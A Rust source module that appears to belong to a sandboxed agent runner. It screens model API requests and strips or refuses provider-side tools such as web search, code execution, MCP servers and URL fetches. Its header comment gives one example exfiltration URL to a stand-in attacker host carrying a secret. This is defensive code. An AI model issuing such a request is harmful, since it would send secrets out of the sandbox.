//! Screens model requests for work that the provider would do on its own machines.
//!
//! A request can cause the provider to fetch `https://evil.example/?d=SECRET`, search the web, run
//! code or connect to an MCP server: an exit from the sandbox that no allowlist covers. Each wire
//! format has an allowlist of features that only affect client and model. Everything else needs the
//! permission of its [`ProviderTool`] kind: tools and parameters without permission are removed
//! from the request, and a request that names URLs, MCP servers or stored files is refused.
//!
//! [`screen`] is pure. `anthropic`, `chat` and `responses` implement the wire formats; `remote`
//! handles the fields that they share.

mod anthropic;
mod chat;
mod remote;
mod responses;
#[cfg(test)]
mod tests;
mod tools;

use std::collections::BTreeSet;

use ralph_core::net::{ProviderTool, ProviderToolAction};
use serde_json::{Map, Value};

use crate::audit::sanitize_text;
use crate::meter::ModelWireFormat;

/// The number of distinct findings reported per request. Removals and refusals are not limited.
const MAX_FINDINGS: usize = 32;
/// The maximum length of a name quoted from a request, in characters.
const MAX_NAME_CHARS: usize = 64;

/// A provider-side tool that a request asked for, and the action taken.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProviderToolUse {
    /// The required permission; `None` means that no permission allows it.
    pub kind: Option<ProviderTool>,
    /// The part of the request: a tool, a parameter or the host of a URL.
    pub what: String,
    pub action: ProviderToolAction,
}

impl ProviderToolUse {
    /// Returns the one-line reason for the client.
    pub(super) fn reason(&self) -> String {
        let what = &self.what;
        match self.kind {
            Some(kind) => format!(
                "the request asks the provider for {what} — this run does not allow `{kind}` — \
                 send the data itself, or ask the user to allow `{kind}` in \
                 `sandbox.network.provider_tools`"
            ),
            None => format!(
                "the request asks the provider for {what} — it would run outside the sandbox — \
                 send the request without it"
            ),
        }
    }
}

/// The result of screening a request.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Screening {
    /// The distinct findings.
    pub(super) findings: Vec<ProviderToolUse>,
    pub(super) is_changed: bool,
    refused: Option<ProviderToolUse>,
}

impl Screening {
    /// Returns the first finding that refuses the request.
    pub(super) fn refused(&self) -> Option<&ProviderToolUse> {
        self.refused.as_ref()
    }
}

/// Removes provider-side tools that are not allowed from a request and reports all findings.
pub(super) fn screen(
    wire: ModelWireFormat,
    request: &mut Map<String, Value>,
    allowed: &BTreeSet<ProviderTool>,
) -> Screening {
    let mut screener = Screener {
        allowed,
        screening: Screening::default(),
    };
    match wire {
        ModelWireFormat::AnthropicMessages => anthropic::screen(&mut screener, request),
        ModelWireFormat::OpenAiChat => chat::screen(&mut screener, request),
        ModelWireFormat::OpenAiResponses => responses::screen(&mut screener, request),
    }
    screener.screening
}

struct Screener<'a> {
    allowed: &'a BTreeSet<ProviderTool>,
    screening: Screening,
}

impl Screener<'_> {
    /// Refuses the request unless the kind is allowed.
    fn refuse(&mut self, kind: Option<ProviderTool>, what: impl Into<String>) {
        self.decide(kind, what.into(), ProviderToolAction::Refused);
    }

    /// Returns whether a part may stay in the request; otherwise the caller removes it.
    fn keep_if_allowed(&mut self, kind: Option<ProviderTool>, what: impl Into<String>) -> bool {
        self.decide(kind, what.into(), ProviderToolAction::Removed)
    }

    fn decide(
        &mut self,
        kind: Option<ProviderTool>,
        what: String,
        otherwise: ProviderToolAction,
    ) -> bool {
        let is_allowed = kind.is_some_and(|kind| self.allowed.contains(&kind));
        let action = if is_allowed {
            ProviderToolAction::Allowed
        } else {
            otherwise
        };
        let found = ProviderToolUse { kind, what, action };
        self.screening.is_changed |= action == ProviderToolAction::Removed;
        if action == ProviderToolAction::Refused && self.screening.refused.is_none() {
            self.screening.refused = Some(found.clone());
        }
        let findings = &mut self.screening.findings;
        if findings.len() < MAX_FINDINGS && !findings.contains(&found) {
            findings.push(found);
        }
        is_allowed
    }

    /// Removes parameters that are in neither list, and those in the second list unless their kind
    /// is allowed. A `null` parameter has no effect and is not screened.
    fn screen_parameters(
        &mut self,
        request: &mut Map<String, Value>,
        known: &[&str],
        kinds: &[(&str, ProviderTool)],
    ) {
        let unknown: Vec<String> = request
            .iter()
            .filter(|(name, value)| !known.contains(&name.as_str()) && !value.is_null())
            .map(|(name, _)| name.clone())
            .collect();
        for name in unknown {
            let kind = kinds.iter().find(|(known, _)| *known == name);
            let kind = kind.map_or(ProviderTool::Parameters, |(_, kind)| *kind);
            if !self.keep_if_allowed(Some(kind), format!("the parameter {}", quoted(&name))) {
                request.remove(&name);
            }
        }
    }

    /// Refuses a part of an unknown type.
    fn refuse_unknown(&mut self, what: &str, type_name: Option<&str>) {
        let name = quoted(type_name.unwrap_or("without a type"));
        self.refuse(Some(ProviderTool::Parameters), format!("{what} {name}"));
    }
}

/// Returns a name from a request, quoted and sanitized for a record.
fn quoted(name: &str) -> String {
    let name: String = name.chars().take(MAX_NAME_CHARS).collect();
    format!("`{}`", sanitize_text(&name))
}

/// Returns the `type` of a part of a request.
fn type_of(part: &Value) -> Option<&str> {
    part.get("type").and_then(Value::as_str)
}

/// Returns the parts of a list. A single part counts as a list of one; text has no parts.
fn content_parts(content: &Value) -> &[Value] {
    match content {
        Value::Array(parts) => parts,
        Value::Object(_) => std::slice::from_ref(content),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => &[],
    }
}
